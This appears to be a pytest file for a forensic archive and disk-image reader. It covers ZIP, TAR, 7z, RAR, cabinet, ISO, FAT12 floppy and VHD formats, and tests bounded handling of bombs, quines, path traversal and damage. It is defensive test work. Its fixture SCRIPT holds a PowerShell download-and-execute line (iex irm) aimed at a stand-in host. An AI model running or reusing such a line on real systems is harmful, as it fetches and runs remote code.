"""Archives and images: entries against their makers and other programs; bombs, quines and damage. All contents are inert texts."""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import lzma
import shutil
import struct
import subprocess
import tarfile
import zipfile
import zlib

import pytest
import zstandard

from commodore.artefacts.content import archive_contents
from commodore.evidence import Evidence
from commodore.readers.archives import Budget, entries, format_of, model
from commodore.readers.archives.opening import BrokenArchiveError
from commodore.record import Problem, Record
from tests.commodore.damage import HOST, damaged
from tests.conftest import need

SCRIPT, NOTE = b"iex (irm http://a.example.invalid/x) # inert\n", b"hello " * 1000
CABINET = base64.b64decode(
    "TVNDRgAAAAB0AAAAAAAAACwAAAAAAAAAAwEBAAIAAAAAAAAAWAAAAAEAAQAMAAAAAAAAAAAAfV0SZCAAYy5iYXQALAEAAAwAAAAAAH1dEmQgAGQudHh0ALFpoLYUADgBQ0tLTc7IV8jMSy0q4eWqGAVEAwA="
)
"""`c.bat` and `d.txt` (300 times x), made by gcab 1.5 with MSZIP"""


def read(data: bytes, name: str = "a.bin", budget: Budget | None = None) -> dict[str, model.Entry]:
    return {entry.name: entry for entry in entries(io.BytesIO(data), name, budget or Budget(len(data)))}


def zipped(files: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", method) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return made.getvalue()


def tarred(files: dict[str, bytes]) -> bytes:
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w") as archive:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size, info.mtime = len(data), 1_793_476_800
            archive.addfile(info, io.BytesIO(data))
    return made.getvalue()


FILES = {"in/run.ps1": SCRIPT, "in/sub/note.txt": NOTE}


def seven(*options: str) -> bytes:
    """An archive of FILES, made by the command 7z."""
    program = shutil.which("7z")
    need(program, "7z")
    import tempfile
    from pathlib import Path

    with tempfile.TemporaryDirectory() as folder:
        for name, data in FILES.items():
            (Path(folder) / name).parent.mkdir(parents=True, exist_ok=True)
            (Path(folder) / name).write_bytes(data)
        subprocess.run([program, "a", *options, "made", "in"], cwd=folder, check=True, capture_output=True)
        (made,) = Path(folder).glob("made*")
        return made.read_bytes()


def image() -> bytes:
    import pycdlib

    made, disc = io.BytesIO(), pycdlib.PyCdlib()
    disc.new(joliet=3)
    disc.add_directory("/IN", joliet_path="/in")
    disc.add_directory("/IN/SUB", joliet_path="/in/sub")
    for number, (name, data) in enumerate(FILES.items()):
        folder = "/IN/SUB" if "sub" in name else "/IN"
        disc.add_fp(io.BytesIO(data), len(data), f"{folder}/F{number}.;1", joliet_path=f"/{name}")
    disc.write_fp(made)
    return made.getvalue()


def floppy(files: dict[str, bytes], *, circle: bool = False) -> bytes:
    """A FAT12 floppy by hand: 1.44 MB, clusters of 512 bytes, one folder `IN`, long names. `circle`: each chain leads back to its first."""
    table, data, clusters = [0xFF0, 0xFFF], bytearray(), 2

    def put(content: bytes) -> int:
        nonlocal clusters
        first, count = clusters, max(1, -(-len(content) // 512))
        table.extend([*range(first + 1, first + count), first if circle else 0xFFF])
        data.extend(content.ljust(count * 512, b"\0"))
        clusters += count
        return first

    rows = bytearray(b".          \x10".ljust(32, b"\0") + b"..         \x10".ljust(32, b"\0"))
    for number, (name, content) in enumerate(files.items()):
        wide = name.encode("utf-16-le") + b"\0\0"
        parts = [wide[at : at + 26].ljust(26, b"\xff") for at in range(0, len(wide), 26)]
        for place, part in reversed(list(enumerate(parts, 1))):
            last = 0x40 if place == len(parts) else 0
            rows += bytes([place | last]) + part[:10] + b"\x0f\0\0" + part[10:22] + b"\0\0" + part[22:26]
        time = struct.pack("<HHHHI", 0, 0x6000, 0x5D5F, put(content), len(content))  # 12:00:00 on 31 October 2026
        rows += f"F{number}".encode().ljust(8) + b"TXT\x20" + bytes(8) + time
    folder = b"IN         \x10" + bytes(8) + struct.pack("<HHHHI", 0, 0, 0, put(bytes(rows)), 0)
    deleted = b"\xe5ONE    TXT\x20" + bytes(8) + struct.pack("<HHHHI", 0, 0, 0, 2, 9)
    packed = bytearray()
    for low, high in zip(table[::2], [*table[1::2], 0][: len(table[::2])], strict=True):
        packed += (low | high << 12).to_bytes(3, "little")
    boot = b"\xeb\x3c\x90TESTTEST" + struct.pack("<HBHBHHBHHHII", 512, 1, 1, 2, 224, 2880, 0xF0, 9, 18, 2, 0, 0)
    boot = (boot.ljust(54, b"\0") + b"FAT12   ").ljust(510, b"\0") + b"\x55\xaa"
    whole = boot + bytes(packed).ljust(9 * 512, b"\0") * 2 + (deleted + folder).ljust(224 * 32, b"\0") + bytes(data)
    return whole.ljust(2880 * 512, b"\0")


def dynamic(disk: bytes) -> bytes:
    """A dynamic VHD of a disk in blocks of 512 KiB, with its blocks in reverse order and the last one absent; the disk is partition 1."""
    block = 512 << 10
    whole = bytes(446) + bytes(8) + struct.pack("<II", 64, len(disk) // 512) + bytes(48) + b"\x55\xaa" + bytes(63 * 512) + disk
    pieces = [whole[at : at + block].ljust(block, b"\0") for at in range(0, len(whole), block)]
    start, size = (512 + 1024 + 512) // 512, (block + 512) // 512
    places = [start + size * (len(pieces) - 1 - number) for number in range(len(pieces))]
    head = b"cxsparse" + struct.pack(">QQIII", 0xFFFFFFFFFFFFFFFF, 1536, 0x10000, len(pieces) + 1, block)
    table = struct.pack(f">{len(pieces) + 1}I", *places, 0xFFFFFFFF)
    return (
        b"conectix".ljust(512, b"\0")
        + head.ljust(1024, b"\0")
        + table.ljust(512, b"\xff")
        + b"".join(b"\xff" * 512 + piece for piece in reversed(pieces))
    )


def test_a_floppy_and_a_dynamic_disk():
    files = {"a long name with blanks.ps1": SCRIPT, "note.txt": NOTE}
    for data in (floppy(files), dynamic(floppy(files))):
        found = read(data)
        assert {name: found[f"IN/{name}"].content for name in files} == files
        assert found["IN/note.txt"].modified == "2026-10-31T12:00:00Z"
        assert set(found) == {"IN", *(f"IN/{name}" for name in files)}, "the deleted file is none"
    circle = read(floppy(files, circle=True))
    assert circle["IN/note.txt"].content[: len(NOTE)] == NOTE
    assert len(circle) < 20


DEFLATE64 = base64.b64decode(
    "UEsDBBUAAAAJAAAAIQBD3mydQAAAADUCAAAEAAAAYS5zaOXKzQnAIAwG0HunyATmUnroNqF+xUD8QYI4vu7hOz98qZIWdKeI38Tx3JTc28ssAVNyMwQtQ0wj0/H9+L77tQBQSwECPwMVAAAA"
    "CQAAACEAQ95snUAAAAA1AgAABAAAAAAAAAAAACCApIEAAAAAYS5zaFBLBQYAAAAAAQABADIAAABiAAAAAAA="
)
"""`a.sh`, made by 7-Zip with `-mm=Deflate64`"""


def test_what_explorer_packs_with_another_method_and_lzma_alone():
    text = b"echo inert deflate64 http://a.example.invalid/ " * 12 + b"\n"
    assert read(DEFLATE64)["a.sh"].content == text
    states = "a size that lies", read(DEFLATE64.replace(struct.pack("<I", len(text)), struct.pack("<I", 99)))["a.sh"].state
    assert states[1].startswith("damaged"), states
    assert read(lzma.compress(text, lzma.FORMAT_ALONE), "a.sh.lzma")["a.sh"].content == text


@pytest.mark.parametrize("kind", ["zip", "stored", "tar", "tar.gz", "tar.xz", "tar.zst", "tar.bz2", "iso"])
def test_every_entry_has_its_content(kind):
    data = {
        "zip": lambda: zipped(FILES),
        "stored": lambda: zipped(FILES, zipfile.ZIP_STORED),
        "tar": lambda: tarred(FILES),
        "tar.gz": lambda: gzip.compress(tarred(FILES)),
        "tar.xz": lambda: lzma.compress(tarred(FILES)),
        "tar.zst": lambda: zstandard.compress(tarred(FILES)),
        "tar.bz2": lambda: bz2.compress(tarred(FILES)),
        "iso": image,
    }[kind]()
    found = read(data, "a.tar." + kind.rpartition(".")[2])
    prefix = "a.tar/" if "." in kind else ""
    assert {name: found[prefix + name].content for name in FILES} == FILES


@pytest.mark.parametrize(
    ("options", "state"),
    [
        (("-t7z",), "read"),
        (("-t7z", "-pinfected"), "encrypted: opened with the usual password"),
        (("-t7z", "-pinfected", "-mhe=on"), "encrypted: opened with the usual password"),
        (("-tzip", "-pinfected"), "encrypted: opened with the usual password"),
        (("-tzip", "-pinfected", "-mem=AES256"), "encrypted: opened with the usual password"),
        (("-tzip", "-pinfected", "-mem=AES128", "-mx=0"), "encrypted: opened with the usual password"),
    ],
)
def test_archives_of_7z(options, state):
    found = read(seven(*options))
    assert {name: (found[name].content, found[name].state) for name in FILES} == {name: (data, state) for name, data in FILES.items()}


@pytest.mark.parametrize("options", [("-tzip", "-pother"), ("-tzip", "-pother", "-mem=AES256"), ("-t7z", "-pother")])
def test_another_password_is_said(options):
    found = read(seven(*options))
    assert all(found[name].content is None and found[name].state.startswith("encrypted") for name in FILES)


def test_encrypted_names_are_said():
    with pytest.raises(BrokenArchiveError, match="encrypted"):
        read(seven("-t7z", "-pother", "-mhe=on"))


def test_a_cabinet():
    found = read(CABINET)
    assert {name: entry.content for name, entry in found.items()} == {"c.bat": b"echo inert\r\n", "d.txt": b"x" * 300}
    assert found["c.bat"].modified == "2026-11-29T12:32:36Z"


def rar4(name: bytes, data: bytes, method: int = 0x30, flags: int = 0) -> bytes:
    """An archive by the technote: marker, archive header, one file."""
    day = (2026 - 1980) << 25 | 10 << 21 | 31 << 16 | 20 << 11
    head = struct.pack("<IIBIIBBHI", len(data), len(data), 2, zlib.crc32(data), day, 29, method, len(name), 32) + name
    file = struct.pack("<HBHH", 0, 0x74, 0x8000 | flags, 7 + len(head)) + head
    return b"Rar!\x1a\x07\x00" + struct.pack("<HBHH", 0, 0x73, 0, 13) + bytes(6) + file + data + struct.pack("<HBHH", 0, 0x7B, 0, 7)


def rar5(name: bytes, data: bytes, method: int = 0) -> bytes:
    def block(kind: int, body: bytes, content: bytes = b"") -> bytes:
        head = bytes([kind, 2 if content else 0]) + (bytes([len(content)]) if content else b"") + body
        return struct.pack("<I", 0) + bytes([len(head)]) + head + content

    file = (
        bytes([6, len(data), 0x20])
        + struct.pack("<II", 1_793_476_800, zlib.crc32(data))
        + bytes([(method << 7 & 0x7F) | (0x80 if method else 0)])
    )
    file += (bytes([method]) if method else b"") + bytes([1, len(name)]) + name
    return b"Rar!\x1a\x07\x01\x00" + block(1, b"\0") + block(2, file, data) + block(5, b"\0")


@pytest.mark.parametrize("make", [rar4, rar5])
def test_rar_lists_and_reads_what_is_stored(make):
    (entry,) = read(make(b"in\\a.txt" if make is rar4 else b"in/a.txt", b"inert text")).values()
    assert (entry.name, entry.size, entry.content) == ("in/a.txt", 10, b"inert text")
    assert entry.modified[:13] == "2026-10-31T20"
    (packed,) = read(make(b"a.txt", b"inert text", 0x33 if make is rar4 else 3)).values()
    assert packed.content is None
    assert packed.state == "not unpacked: RAR compression"


def test_archives_within_archives_end_at_a_depth():
    data = zipped({"x.txt": b"inert"})
    for n in range(12):
        data = zipped({f"{n}.zip": data})
    budget = Budget(len(data))
    found = read(data, budget=budget)
    assert max(entry.depth for entry in found.values()) == model.DEEPEST
    assert any("deep" in bound for bound in budget.bounds)


def quine() -> bytes:
    """A ZIP archive in a ZIP archive of the same name, stored, several times."""
    data = zipped({"self.zip": b""})
    for _ in range(6):
        data = zipped({"self.zip": data}, zipfile.ZIP_STORED)
    return data


def test_bombs_are_bounded_and_said(monkeypatch):
    monkeypatch.setattr(model, "LARGEST", 1 << 20)
    monkeypatch.setattr(model, "FLOOR", 1 << 20)
    monkeypatch.setattr(model, "ENTRIES", 50)
    inner = zipped({f"{n}.txt": bytes(1 << 20) for n in range(20)})
    stored = quine()
    for data in (
        zipped({f"{n}.zip": inner for n in range(20)}),
        gzip.compress(gzip.compress(bytes(6 << 20))),
        lzma.compress(bytes(6 << 20)),
        zstandard.compress(bytes(6 << 20)),
        bz2.compress(bytes(6 << 20)),
        zipped({str(n): b"" for n in range(500)}),
        stored,
    ):
        budget = Budget(len(data), entries=50)
        found = read(data, budget=budget)
        assert budget.spent <= max(1 << 20, 400 * len(data)) + (2 << 20)
        assert len(found) <= 50
        assert budget.bounds or data is stored


def test_overlapping_entries_are_counted_each():
    """A ZIP whose directory names one content a thousand times."""
    one = zipped({"a": bytes(1 << 19)})
    end = one.rindex(b"PK\5\6")
    start = struct.unpack_from("<I", one, end + 16)[0]
    entry = one[start:end]
    data = one[:start] + entry * 1000 + one[end : end + 8] + struct.pack("<HHII", 1000, 1000, len(entry) * 1000, start) + b"\0\0"
    budget = Budget(len(data))
    found = list(entries(io.BytesIO(data), "a.zip", budget))
    assert budget.spent <= max(model.FLOOR, model.RATIO * len(data)) + model.LARGEST
    # newer versions of Python's own reader refuse entries that overlap: then each but one says that it was not unpacked
    assert budget.bounds or sum(one.content is None and bool(one.state) for one in found) >= 998


def test_an_image_whose_folders_are_a_circle():
    data = bytearray(image())
    at = data.index("sub".encode("utf-16-be")) - 33
    root = struct.unpack_from("<I", data, next(n for n in range(17, 20) if data[n * 2048] == 2) * 2048 + 158)[0]
    struct.pack_into("<I", data, at + 2, root)
    assert len(read(bytes(data))) < 50


@pytest.mark.parametrize(
    "make",
    [
        lambda: zipped(FILES),
        lambda: tarred(FILES),
        lambda: CABINET,
        lambda: rar4(b"a", b"text"),
        lambda: rar5(b"a", b"text"),
        image,
        lambda: floppy(FILES)[:20_000],
        lambda: DEFLATE64,
    ],
)
def test_damage_is_no_exception(make):
    data = make()
    for number, bad in enumerate(damaged(data)):
        if number % 7:
            continue
        for item in archive_contents.parse(Evidence("/x/a.bin", bad), HOST):
            assert isinstance(item, Record | Problem)


def test_names_that_hide_their_kind():
    rows = archive_contents.parse(
        Evidence("/x/a.zip", zipped({"inv.pdf.exe": b"MZ inert", "a" + " " * 60 + ".exe": b"MZ", "../../x.sh": b"", "ok.txt": b""})), HOST
    )
    ids = [row.fields.get("escadre.traits.ids", []) for row in rows if isinstance(row, Record)]
    assert ids == [["name-with-two-endings"], ["name-padded"], ["name-leads-out"], []]


def test_documents_are_left_to_their_artefact():
    data = zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": b""})
    assert list(archive_contents.parse(Evidence("/x/a.docx", data), HOST)) == []
    assert format_of(data) == "zip"


def test_an_archive_with_a_document_in_it_is_no_document():
    """A document that is stored, not compressed, puts the names of its parts into the first bytes of the archive."""
    office = zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<x/>"}, zipfile.ZIP_STORED)
    outer = zipped({"offer.docx": office, "run.js": b"inert"}, zipfile.ZIP_STORED)
    found = list(archive_contents.parse(Evidence("/x/a.zip", outer), HOST))
    assert {"offer.docx", "run.js"} <= {one.fields["escadre.archive.entry"] for one in found if isinstance(one, Record)}
    assert list(archive_contents.parse(Evidence("/x/a.docx", office), HOST)) == []


def test_content_that_cannot_be_read_is_in_the_ledger():
    whole = zipped({"a.txt": b"inert text", "b.txt": b"other"}, zipfile.ZIP_STORED)
    found = list(archive_contents.parse(Evidence("/x/a.zip", whole.replace(b"inert", b"INERT")), HOST))
    assert [one.locator for one in found if isinstance(one, Record)] == ["entry/1", "entry/2"]
    assert [one.locator for one in found if isinstance(one, Problem)] == ["entry/1"]
